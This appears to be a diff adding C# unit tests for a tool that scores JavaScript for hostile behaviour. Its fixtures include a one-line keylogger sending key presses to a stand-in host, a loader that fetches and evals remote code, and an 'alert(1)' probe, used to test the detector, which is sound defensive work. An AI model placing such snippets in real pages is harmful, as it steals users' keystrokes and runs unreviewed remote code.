@@ -29,6 +29,34 @@ public sealed class ScoreScriptTests : IDisposable
     }
 
     [Fact]
+    public async Task Score_WhatIsNotJudged_IsSaidToBeSo()
+    {
+        string shorter = Write("key.js", "onkeyup=e=>fetch('//x/'+e.key)"), loader = Write("load.js", "fetch(u).then(r=>r.text()).then(eval)"), data = Write("data.js", "{}"), verdicts = Path.Combine(_folder, "verdicts.txt");
+
+        var (code, error) = await RunAsync("score", "script", shorter, loader, data, "--output", verdicts);
+
+        code.ShouldBe(ExitCode.Ok, error);
+        string[] lines = await File.ReadAllLinesAsync(verdicts, TestContext.Current.CancellationToken);
+        lines[0].ShouldEndWith("key.js: too short to judge: read it");
+        lines[1].ShouldEndWith("load.js: obfuscated, not decided: a part of it could not be read");
+        lines[2].ShouldBe("  1:33  Runs text that does not stand in the script (eval).");
+        lines[^1].ShouldEndWith("data.js: not judged: data, nothing is called");
+    }
+
+    [Fact]
+    public async Task Score_Rows_SayWhatAScoreIsWorth()
+    {
+        string rows = Write("rows.jsonl", "{\"code\":\"alert(1)\"}\n{\"code\":\"document.querySelector('.menu').addEventListener('click', function (event) { event.target.classList.toggle('open'); });\"}\n"), verdicts = Path.Combine(_folder, "verdicts.jsonl");
+
+        var (code, error) = await RunAsync("score", "script", "--input", rows, "--output", verdicts);
+
+        code.ShouldBe(ExitCode.Ok, error);
+        string[] lines = await File.ReadAllLinesAsync(verdicts, TestContext.Current.CancellationToken);
+        lines[0].ShouldContain("\"severity\":\"None\",\"state\":\"too_short\",\"classes\"");
+        lines[1].ShouldContain("\"severity\":\"None\",\"state\":\"judged\",\"classes\"");
+    }
+
+    [Fact]
     public async Task Score_OneThatCannotBeRead_JudgesTheOthersAndFails()
     {
         string skimmer = Write("shop.js", Skimmer), verdicts = Path.Combine(_folder, "verdicts.txt");
